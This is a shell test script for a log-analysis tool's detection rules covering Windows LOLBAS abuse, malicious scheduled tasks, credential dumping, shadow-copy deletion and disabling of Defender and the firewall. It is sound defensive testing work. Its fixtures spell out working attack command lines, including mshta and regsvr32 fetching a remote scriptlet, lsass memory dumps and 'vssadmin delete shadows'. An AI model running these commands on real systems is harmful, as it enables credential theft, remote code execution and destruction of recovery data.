#!/bin/sh
# t3007-analyze-command-abuse.sh - casetrail's own rules on command lines
# (Sysmon 1 or Security 4688): Windows' signed programs made to run code
# (LOLBAS), scheduled tasks that run shells or run as SYSTEM at logon,
# credential stores copied, recovery removed, defences turned off; each
# beside the ordinary use of the same program that must stay out. Then the
# real EDR test script of ../shared/corpus-ext, which runs most of them.
. "$TOP_SRCDIR/tests/t/lib.sh"
. "$TOP_SRCDIR/tests/t/analysis-fixture.sh"

CX=$SHARED_DIR/corpus-ext

# cmds CASE <<EOF: one process per line "image|command line", a second apart.
cmds() {
	fx_case "$1" &&
	n=0 &&
	while IFS='|' read -r img cmd; do
		n=$((n + 1))
		printf "(%d, '2024-03-13 10:%02d:%02d.0000000', 101, 1, 'S', '%s', '%s', %d, '{g%d}', 'C:\\\\Windows\\\\explorer.exe', 500),\n" \
		    "$n" $((n / 60)) $((n % 60)) "$img" "$(printf %s "$cmd" | sed "s/'/''/g")" $((1000 + n)) "$n"
	done >rows.sql &&
	{ echo "INSERT INTO ev (rid, ts, src, eid, chan, image, cmd, pid, guid, pimage, ppid) VALUES"; sed '$ s/,$/;/' rows.sql; } |
	    fx_sql "$1"
}

test_expect_success 'signed Windows programs running code: flagged, their ordinary uses not' '
	cmds l.db <<-\EOF &&
	C:\Windows\System32\mshta.exe|mshta.exe javascript:a=GetObject("script:https://x.example/a.sct").Exec();close();
	C:\Windows\System32\regsvr32.exe|regsvr32.exe /s /u /i:https://x.example/a.sct scrobj.dll
	C:\Windows\System32\rundll32.exe|rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)
	C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe|InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\a.dll
	C:\Windows\System32\wbem\WMIC.exe|wmic process call create "calc.exe"
	C:\Windows\System32\certutil.exe|certutil -f -decode a.b64 a.dll
	C:\Windows\System32\regsvr32.exe|regsvr32.exe /s C:\Windows\System32\vbscript.dll
	C:\Windows\System32\rundll32.exe|rundll32.exe shell32.dll,Control_RunDLL desk.cpl
	C:\Windows\System32\wbem\WMIC.exe|wmic process get name /format:list
	C:\Windows\System32\certutil.exe|certutil -hashfile a.dll SHA256
	C:\Windows\System32\mshta.exe|mshta.exe C:\Program Files\Vendor\setup.hta
	EOF
	casetrail analyze l.db >out &&
	sql l.db "SELECT severity || \"|\" || attack || \"|\" || title FROM finding WHERE rule = \"lolbin-proxy-exec\" ORDER BY first_ts" >f &&
	cat >want <<-\EOF &&
	high|T1218.005|mshta.exe ran script
	high|T1218.010|regsvr32.exe ran a scriptlet
	medium|T1218.011|rundll32.exe ran script or another program
	medium|T1218.004|installutil.exe loaded a library from outside Windows
	medium|T1047|wmic.exe created a process
	medium|T1140|certutil.exe decoded a file
	EOF
	test_cmp want f
'

test_expect_success 'scheduled tasks: a shell, a user folder or SYSTEM at logon; a vendor updater and queries not' '
	cmds t.db <<-\EOF &&
	C:\Windows\System32\schtasks.exe|schtasks /create /tn "upd" /tr "powershell -w hidden -enc SQBFAFgA" /sc daily /f
	C:\Windows\System32\schtasks.exe|schtasks /create /tn mysc /tr C:\windows\system32\calc.exe /sc ONLOGON /ru "System" /f
	C:\Windows\System32\schtasks.exe|schtasks /create /tn x /tr C:\Users\Public\x.exe /sc hourly
	C:\Windows\System32\schtasks.exe|schtasks /create /tn "Vendor Update" /tr "C:\Program Files\Vendor\upd.exe" /sc daily
	C:\Windows\System32\schtasks.exe|schtasks /query /fo list
	EOF
	casetrail analyze t.db >out &&
	sql t.db "SELECT severity || \"|\" || title FROM finding WHERE rule = \"scheduled-task-command\" ORDER BY first_ts" >f &&
	cat >want <<-\EOF &&
	high|Scheduled task upd created to run powershell -w hidden -enc SQBFAFgA
	medium|Scheduled task mysc created to run C:\windows\system32\calc.exe
	medium|Scheduled task x created to run C:\Users\Public\x.exe
	EOF
	test_cmp want f
'

test_expect_success 'credential stores, recovery, defences: the attack commands, not their neighbours' '
	cmds c.db <<-\EOF &&
	C:\Windows\System32\rundll32.exe|rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Users\Public\l.dmp full
	C:\Tools\procdump64.exe|procdump64.exe -accepteula -ma lsass.exe l.dmp
	C:\Windows\System32\reg.exe|reg save HKLM\SAM C:\Users\Public\sam.hiv
	C:\Windows\System32\ntdsutil.exe|ntdsutil "ac i ntds" "ifm" "create full c:\temp\ntds" q q
	C:\Windows\System32\vssadmin.exe|vssadmin.exe delete shadows /all /quiet
	C:\Windows\System32\bcdedit.exe|bcdedit /set {default} recoveryenabled no
	C:\Windows\System32\sc.exe|sc config WinDefend start= disabled
	C:\Windows\System32\netsh.exe|netsh advfirewall set allprofiles state off
	C:\Tools\procdump64.exe|procdump64.exe -ma notepad.exe n.dmp
	C:\Windows\System32\reg.exe|reg save HKLM\SOFTWARE C:\backup\soft.hiv
	C:\Windows\System32\vssadmin.exe|vssadmin list shadows
	C:\Windows\System32\netsh.exe|netsh advfirewall set allprofiles state on
	EOF
	casetrail analyze c.db >out &&
	sql c.db "SELECT rule || \"|\" || severity || \"|\" || attack || \"|\" || title FROM finding WHERE rule IN (\"credential-dump-command\", \"inhibit-recovery\", \"defences-disabled\") ORDER BY first_ts" >f &&
	cat >want <<-\EOF &&
	credential-dump-command|high|T1003.001|rundll32.exe dumped a process'"'"'s memory (comsvcs MiniDump)
	credential-dump-command|high|T1003.001|procdump64.exe dumped lsass memory
	credential-dump-command|high|T1003.002|reg.exe saved a credential hive
	credential-dump-command|high|T1003.003|ntdsutil.exe copied the Active Directory database
	inhibit-recovery|high|T1490|vssadmin.exe removed the means of recovery
	inhibit-recovery|high|T1490|bcdedit.exe removed the means of recovery
	defences-disabled|high|T1562.001|sc.exe turned Microsoft Defender off
	defences-disabled|high|T1562.004|netsh.exe turned the firewall off
	EOF
	test_cmp want f
'

test_expect_success 'Defender switched off in the registry (Sysmon 13), not by its own service' '
	fx_case d.db &&
	fx_sql d.db <<-\SQL &&
	INSERT INTO ev (rid, ts, src, eid, chan, image, data) VALUES
	 (1, "2024-03-13 10:00:00.0000000", 101, 13, "S", "C:\Windows\System32\reg.exe", json_object("TargetObject", "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware", "Details", "DWORD (0x00000001)")),
	 (2, "2024-03-13 10:00:01.0000000", 101, 13, "S", "C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe", json_object("TargetObject", "HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring", "Details", "DWORD (0x00000001)")),
	 (3, "2024-03-13 10:00:02.0000000", 101, 13, "S", "C:\Windows\System32\reg.exe", json_object("TargetObject", "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware", "Details", "DWORD (0x00000000)"));
	SQL
	casetrail analyze d.db >out &&
	test "$(sql d.db "SELECT severity || \"|\" || title FROM finding WHERE rule = \"defences-disabled\"")" = "high|reg.exe set DisableAntiSpyware = 1"
'

if ! test -f "$CX/MANIFEST.md"; then
	echo "# SKIP the real-log checks: $CX is missing (external test data)" >&2
	test_done
fi

test_expect_success 'the real EDR test script: its LOLBAS runs and its SYSTEM logon task' '
	cp "$CX/EVTX-ATTACK-SAMPLES/AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx" p.evtx &&
	{ casetrail run -q -o p-out p.evtx >/dev/null 2>&1 || test $? -eq 1; } &&
	sql p-out/case.db "SELECT DISTINCT attack FROM finding WHERE rule = \"lolbin-proxy-exec\" ORDER BY 1" >a &&
	cat >want <<-\EOF &&
	T1021.006,T1047
	T1127.001
	T1140
	T1216.001
	T1218.003
	T1218.005
	T1218.010
	T1218.011
	T1220
	EOF
	test_cmp want a &&
	test "$(sql p-out/case.db "SELECT DISTINCT severity || \"|\" || title FROM finding WHERE rule = \"scheduled-task-command\"")" = "medium|Scheduled task mysc created to run C:\windows\system32\calc.exe"
'

test_expect_success 'real benign logs: none of these rules above low' '
	for n in omerbenamram-evtx/sysmon omerbenamram-evtx/security plaso/evtx/System sigma/proc_creation_win_findstr_recon_pipe_output; do
		d=$(echo $n | tr / _) &&
		cp "$CX/$n.evtx" $d.evtx &&
		{ casetrail run -q -o $d-out $d.evtx >/dev/null 2>&1 || test $? -eq 1; } &&
		test "$(sql $d-out/case.db "SELECT count(*) FROM finding WHERE rule IN (\"lolbin-proxy-exec\", \"scheduled-task-command\", \"credential-dump-command\", \"inhibit-recovery\", \"defences-disabled\") AND severity IN (\"medium\", \"high\", \"critical\")")" = 0 ||
		{ echo "# $n has such a finding" && return 1; }
	done
'

test_done
